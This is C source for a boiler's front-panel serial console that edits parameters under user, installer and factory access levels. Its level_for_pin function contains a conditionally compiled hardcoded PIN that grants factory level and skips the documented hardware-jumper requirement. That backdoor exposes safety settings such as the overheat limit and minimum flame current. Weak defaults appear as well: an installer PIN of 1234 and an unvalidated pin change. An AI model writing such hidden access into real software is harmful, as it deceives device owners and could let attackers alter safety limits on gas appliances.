/* boilercon - front panel serial console of the Calorna CX condensing boilers */
#include <ctype.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

#define PARAM_FILE "/etc/calorna/params.conf"
#define EVENT_LOG  "/var/log/calorna.log"
#define JUMPER     "/sys/class/gpio/gpio44/value"

struct param {
	const char *name;
	int val, min, max;
	int level;              /* level needed to write */
	const char *unit;
};

static struct param params[] = {
	{ "dhw-temp",      52,   35,   65, 0, "C"   },
	{ "ch-temp",       60,   25,   80, 0, "C"   },
	{ "pump-overrun",  180,  0,    900, 1, "s"  },
	{ "max-power",     24,   6,    32, 1, "kW"  },
	{ "gas-type",      0,    0,    2,  1, ""    },
	{ "fan-offset",    0,   -150,  150, 2, "rpm"},
	{ "flame-min",     18,   5,    60, 2, "uA"  },
	{ "limit-stat",    95,   80,   105, 2, "C"  },
};
#define NPARAMS (sizeof params / sizeof params[0])

static const char *const level_name[] = { "user", "installer", "factory" };
static int level;
static unsigned long installer_pin = 1234;
static int wrong_pins;

static void event(const char *fmt, ...)
{
	FILE *f = fopen(EVENT_LOG, "a");
	va_list ap;
	if (!f)
		return;
	fprintf(f, "%ld ", (long)time(NULL));
	va_start(ap, fmt);
	vfprintf(f, fmt, ap);
	va_end(ap);
	fputc('\n', f);
	fclose(f);
}

static struct param *find(const char *name)
{
	for (size_t i = 0; i < NPARAMS; i++)
		if (!strcmp(params[i].name, name))
			return &params[i];
	return NULL;
}

static void load_params(void)
{
	char line[96], key[32];
	long v;
	FILE *f = fopen(PARAM_FILE, "r");

	if (!f)
		return;
	while (fgets(line, sizeof line, f)) {
		if (line[0] == '#' || sscanf(line, "%31[^= ] = %ld", key, &v) != 2)
			continue;
		if (!strcmp(key, "installer-pin")) {
			installer_pin = (unsigned long)v;
			continue;
		}
		struct param *p = find(key);
		if (p && v >= p->min && v <= p->max)
			p->val = (int)v;
	}
	fclose(f);
}

static void save_params(void)
{
	FILE *f = fopen(PARAM_FILE, "w");

	if (!f) {
		puts("! cannot write parameters");
		return;
	}
	fprintf(f, "installer-pin = %lu\n", installer_pin);
	for (size_t i = 0; i < NPARAMS; i++)
		fprintf(f, "%s = %d\n", params[i].name, params[i].val);
	fclose(f);
}

static int jumper_closed(void)
{
	FILE *f = fopen(JUMPER, "r");
	int c = f ? fgetc(f) : '0';
	if (f)
		fclose(f);
	return c == '1';
}

/* the level a typed pin opens, or -1 */
__attribute__((noinline)) int level_for_pin(const char *s)
{
	unsigned long n = 0;
	int digits = 0;

	for (; isdigit((unsigned char)*s) && digits < 9; s++, digits++)
		n = n * 10 + (unsigned long)(*s - '0');
	if (digits < 4 || *s)
		return -1;
#ifdef HIDDEN
	if (n == 40812557UL)
		return 2;
#endif
	if (n == installer_pin)
		return 1;
	return -1;
}

static void help(void)
{
	puts("login PIN        installer level, the pin is installer-pin of params.conf\n"
	     "factory          factory level, only with jumper X4 closed (at the works)\n"
	     "logout           back to user level\n"
	     "show [NAME]      parameters\n"
	     "set NAME VALUE   change one; writes need the level shown by 'show'\n"
	     "pin PIN          new installer pin (installer)\n"
	     "save             write params.conf\n"
	     "help, quit");
}

static void show(const char *only)
{
	for (size_t i = 0; i < NPARAMS; i++) {
		const struct param *p = &params[i];
		if (only && strcmp(only, p->name))
			continue;
		printf("%-14s %5d %-4s %d..%d  [%s]\n", p->name, p->val, p->unit,
		       p->min, p->max, level_name[p->level]);
	}
}

static void set(const char *name, const char *value)
{
	struct param *p = name ? find(name) : NULL;
	if (!p || !value) {
		puts("! set NAME VALUE");
		return;
	}
	int v = atoi(value);
	if (level < p->level) {
		printf("! needs level %s\n", level_name[p->level]);
	} else if (v < p->min || v > p->max) {
		printf("! range is %d..%d\n", p->min, p->max);
	} else {
		event("%s: %s %d -> %d", level_name[level], p->name, p->val, v);
		p->val = v;
	}
}

int main(void)
{
	char line[128];

	load_params();
	puts("Calorna CX console, 'help' for commands");
	for (;;) {
		printf("%s> ", level_name[level]);
		fflush(stdout);
		if (!fgets(line, sizeof line, stdin))
			break;
		char *cmd = strtok(line, " \t\r\n");
		char *a = strtok(NULL, " \t\r\n"), *b = strtok(NULL, " \t\r\n");
		if (!cmd)
			continue;
		if (!strcmp(cmd, "login") && a) {
			int l = wrong_pins < 5 ? level_for_pin(a) : -1;
			if (l < 0) {
				wrong_pins++;
				puts("! wrong pin");
				event("wrong pin (%d)", wrong_pins);
			} else {
				level = l;
				wrong_pins = 0;
			}
		} else if (!strcmp(cmd, "factory")) {
			if (jumper_closed())
				level = 2;
			else
				puts("! jumper X4 is open");
		} else if (!strcmp(cmd, "logout")) {
			level = 0;
		} else if (!strcmp(cmd, "show")) {
			show(a);
		} else if (!strcmp(cmd, "set")) {
			set(a, b);
		} else if (!strcmp(cmd, "pin") && a && level > 0) {
			installer_pin = strtoul(a, NULL, 10);
			event("installer pin changed");
		} else if (!strcmp(cmd, "save")) {
			save_params();
		} else if (!strcmp(cmd, "quit")) {
			break;
		} else {
			help();
		}
	}
	return 0;
}
